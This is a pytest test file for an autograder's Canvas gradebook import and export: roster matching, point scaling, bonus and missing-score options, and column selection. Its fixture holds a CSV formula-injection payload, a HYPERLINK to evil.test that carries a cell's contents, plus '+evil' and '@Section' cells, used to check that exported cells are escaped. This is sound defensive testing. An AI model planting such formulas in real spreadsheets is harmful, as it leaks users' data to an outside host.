"""Canvas and back: a gradebook export in, canvas-import.csv out, learners matched by the
Canvas user id their submission zip names carry."""

import codecs
import csv
import io
import subprocess
import sys
import zipfile

import pytest

from autograder.errors import UnusableInput
from autograder.grading.lms import prepare_lms, write_lms_files
from autograder.grading.outputs import write_outputs
from autograder.grading.summary import summarize_all

from .lms_class import batch_of, result, zipped

ASSIGNMENT = "Step 7 - Identifying Customers (4412)"
HOSTILE = '=HYPERLINK("http://evil.test/?"&A1,"Click for your grade")'
# Canvas's export: identity columns, assignments as "Name (id)", read-only totals; its
# Points Possible row (Student padded with spaces) and Manual Posting row have no ID.
GRADEBOOK = (
    "Student,ID,SIS User ID,SIS Login ID,Section,Quiz 1 (4399),Step 7 - Identifying Customers (4412),"
    "Current Score,Unposted Current Score,Final Score,Unposted Final Score\r\n"
    ",,,,,,Manual Posting,,,,\r\n"
    "    Points Possible,,,,,5.00,50.00,(read only),(read only),(read only),(read only)\r\n"
    "\"O'Brien, Zoë\",1101,S1101,zobrien,\"Identify Lab, Monday\",4.00,,80.00,80.00,8.00,8.00\r\n"
    "\"Smith, John \"\"Bud\"\"\",1102,S1102,jsmith,\"Identify Lab, Monday\",5.00,,100.00,100.00,10.00,10.00\r\n"
    "\"Núñez, José\",1103,S1103,jnunez,\"Identify Lab, Tuesday\",,,,,,\r\n"
    f"\"{HOSTILE.replace(chr(34), chr(34) * 2)}\",1104,S1104,+evil,@Section,3.00,,60.00,60.00,6.00,6.00\r\n"
    "\"Ng, Anh\",1105,S1105,ang,\"Identify Lab, Tuesday\",,,,,,\r\n"
    "\"Student, Test\",1150,,d41d8cd98f00,\"Identify Lab, Monday\",,,,,,\r\n"
)
ZIP_NAMES = [
    "obrienzoe_1101_5001_step07.ipynb",
    "obrienzoe_LATE_1101_5002_step07-1.ipynb",  # submitted twice: the later one is graded
    "smithjohn_1102_5003_step07.ipynb",
    "hyperlink_1104_5004_step07.ipynb",
    "nganh_1105_5005_step07.ipynb",
    "stranger_1199_5006_step07.ipynb",  # not in the roster
]
RESULTS = {
    "1101": result("1101", failing={"shared-computer": "still the previous customer"}),  # 25 + bonus 2
    "1102": result("1102", failing={"identified-by-email": "km_ai was 42, not the e-mail"}),  # 24
    "1104": result("1104", exercise=0.0),  # 20
    "1105": result("1105", graded=False, reason="not a readable notebook (empty file)"),
    "1199": result("1199"),
}


def write_roster(tmp_path, text=GRADEBOOK, *, bom=False, name="canvas-gradebook.csv"):
    path = tmp_path / name
    path.write_bytes((codecs.BOM_UTF8 if bom else b"") + text.encode("utf-8"))
    return path


def graded(tmp_path, *, every_output=False, **options):
    """The LMS files of RESULTS; with every_output, as ``autograder grade`` writes them with the rest."""
    archive = zipped(tmp_path / "submissions.zip", ZIP_NAMES)
    roster = options.pop("roster", None) or write_roster(tmp_path)
    request = prepare_lms(roster, **{"canvas_column": "4412", **options})
    batch = batch_of(archive, tmp_path, RESULTS)
    if every_output:
        return write_outputs(batch, tmp_path / "out", workers=1, lms=request)
    (tmp_path / "out").mkdir()
    return write_lms_files([request], summarize_all(batch.results), batch.intake.submissions, tmp_path / "out",
                           feedback_dir=tmp_path / "out" / "feedback")


def rows_of(path):
    return list(csv.reader(io.StringIO(path.read_bytes().decode("utf-8-sig"), newline="")))


def test_the_import_has_canvas_columns_one_row_per_roster_learner_and_scaled_points(tmp_path):
    outputs = graded(tmp_path, every_output=True)
    path = tmp_path / "out" / "canvas-import.csv"
    assert outputs.lms_files == [path, tmp_path / "out" / "canvas-feedback.zip"]
    assert "1199: not in the Canvas roster" in (tmp_path / "out" / "report.html").read_text(encoding="utf-8")
    rows = rows_of(path)
    assert rows[0] == ["Student", "ID", "SIS User ID", "SIS Login ID", "Section", ASSIGNMENT]
    by_id = {row[1]: row for row in rows[1:]}
    assert [row[1] for row in rows[1:]] == ["1101", "1102", "1103", "1104", "1105", "1150"]  # the roster's order
    # Points Possible 50 for our 25: each point counts 2; the bonus is added by default.
    assert by_id["1101"] == ["O'Brien, Zoë", "1101", "S1101", "zobrien", "Identify Lab, Monday", "54"]
    assert by_id["1102"] == ['Smith, John "Bud"', "1102", "S1102", "jsmith", "Identify Lab, Monday", "56"]
    assert by_id["1103"][5] == "" and by_id["1150"][5] == "", "no submission: empty, never 0"
    assert by_id["1105"][5] == "", "could not be graded: left to the instructor"
    assert by_id["1104"][5] == "48"
    notes = "\n".join(outputs.lms_notes)
    assert "1199: not in the Canvas roster canvas-gradebook.csv (Canvas user id 1199)" in notes
    assert "1105: not graded (not a readable notebook (empty file))" in notes
    assert "1199" not in by_id


def test_cells_learners_control_cannot_become_formulas_and_scores_stay_numbers(tmp_path):
    graded(tmp_path)
    row = next(r for r in rows_of(tmp_path / "out" / "canvas-import.csv") if r[1] == "1104")
    assert row == ["'" + HOSTILE, "1104", "S1104", "'+evil", "'@Section", "48"]


def test_bonus_in_a_column_of_its_own_or_not_at_all(tmp_path):
    (tmp_path / "separate").mkdir()
    graded(tmp_path / "separate", bonus="separate")
    rows = rows_of(tmp_path / "separate" / "out" / "canvas-import.csv")
    assert rows[0][5:] == [ASSIGNMENT, "Step 7 - Identifying Customers bonus"]
    by_id = {row[1]: row for row in rows[1:]}
    assert by_id["1101"][5:] == ["50", "4"] and by_id["1102"][5:] == ["48", "8"] and by_id["1103"][5:] == ["", ""]
    (tmp_path / "ignore").mkdir()
    graded(tmp_path / "ignore", bonus="ignore")
    rows = rows_of(tmp_path / "ignore" / "out" / "canvas-import.csv")
    assert {row[1]: row[5] for row in rows[1:]}["1101"] == "50" and len(rows[0]) == 6


def test_missing_learners_get_zero_only_when_asked(tmp_path):
    graded(tmp_path, missing_as_zero=True)
    by_id = {row[1]: row for row in rows_of(tmp_path / "out" / "canvas-import.csv")[1:]}
    assert by_id["1103"][5] == "0" and by_id["1150"][5] == "0"
    assert by_id["1105"][5] == "", "a submission that could not be graded is not a missing one"


def test_a_gradebook_with_a_byte_order_mark_gets_an_import_with_one(tmp_path):
    graded(tmp_path, roster=write_roster(tmp_path, bom=True))
    data = (tmp_path / "out" / "canvas-import.csv").read_bytes()
    assert data.startswith(codecs.BOM_UTF8) and data.count(codecs.BOM_UTF8) == 1


def test_several_assignments_need_a_column_and_a_wrong_one_lists_them(tmp_path):
    roster = write_roster(tmp_path, GRADEBOOK.replace("Current Score,", "Step 8 - Tracking Events (4420),", 1))
    with pytest.raises(UnusableInput, match="no assignment column"):
        prepare_lms(write_roster(tmp_path, "Student,ID,SIS User ID,SIS Login ID,Section,Current Score\n", name="x.csv"))
    only = "Student,ID,SIS User ID,SIS Login ID,Section,Step 7 (1)\n\"Ng, Anh\",1105,,ang,A,\n"
    assert prepare_lms(write_roster(tmp_path, only, name="one.csv")).roster.column == "Step 7 (1)"
    with pytest.raises(UnusableInput) as err:
        prepare_lms(roster)
    assert "--canvas-column" in str(err.value) and ASSIGNMENT in str(err.value)
    assert "Step 8 - Tracking Events (4420)" in str(err.value) and "Quiz 1 (4399)" in str(err.value)
    for chosen in ("4412", "Step 7 - Identifying Customers", ASSIGNMENT):
        assert prepare_lms(roster, canvas_column=chosen).roster.column == ASSIGNMENT
    with pytest.raises(UnusableInput, match="--canvas-column Step 9 matches none"):
        prepare_lms(roster, canvas_column="Step 9")


def test_a_roster_that_is_no_lms_export_stops_the_run_before_any_grading(tmp_path):
    roster = write_roster(tmp_path, "name,score\nada,3\n", name="mine.csv")
    subs = tmp_path / "subs"
    subs.mkdir()
    (subs / "ada.ipynb").write_text("{}")
    done = subprocess.run([sys.executable, "-m", "autograder", "grade", str(subs), "--roster", str(roster),
                           "--out", str(tmp_path / "out")], capture_output=True, text=True, timeout=120)
    assert done.returncode == 2, done.stderr
    assert "neither a Canvas gradebook export" in done.stderr and len(done.stderr.strip().splitlines()) == 1
    assert not (tmp_path / "out").exists()


@pytest.mark.browser
@pytest.mark.slow
def test_autograder_grade_with_a_canvas_roster_writes_the_import(tmp_path):
    """The whole way: a Canvas zip graded for real by ``autograder grade --roster``."""
    import nbformat

    from .mini_course import ASSIGNMENT as MINI, learner_notebook, make_course

    course = make_course(tmp_path / "course")
    good = "if (window.acme.customer) { _kmq.push(['identify', window.acme.customer.email]); }"
    archive = tmp_path / "submissions.zip"
    with zipfile.ZipFile(archive, "w") as zf:
        zf.writestr("obrienzoe_1101_5001_mini.ipynb", nbformat.writes(learner_notebook(good, "return 2 * x")))
        zf.writestr("smithjohn_1102_5003_mini.ipynb", nbformat.writes(learner_notebook(good, "return x + 2")))
    done = subprocess.run([sys.executable, "-m", "autograder", "grade", str(archive), "--course", str(course),
                           "--assignment", MINI, "--workers", "1", "--timeout-s", "20", "--out",
                           str(tmp_path / "out"), "--roster", str(write_roster(tmp_path)), "--canvas-column",
                           "4412"], capture_output=True, text=True, timeout=600)
    assert done.returncode == 0, done.stderr + done.stdout
    by_id = {row[1]: row for row in rows_of(tmp_path / "out" / "canvas-import.csv")[1:]}
    grades = {row["learner"]: row for row in csv.DictReader(open(tmp_path / "out" / "grades.csv", encoding="utf-8"))}
    assert set(grades) == {"1101", "1102"} and grades["1101"]["total"] != grades["1102"]["total"]
    for learner, row in grades.items():  # the export's Points Possible is 50
        assert by_id[learner][5] == f"{round(float(row['total']) / float(row['max_total']) * 50, 2):g}"
    assert by_id["1103"][5] == "" and by_id["1104"][5] == ""
    assert "LMS:" in done.stdout  # where the import file is (rich wraps the path)
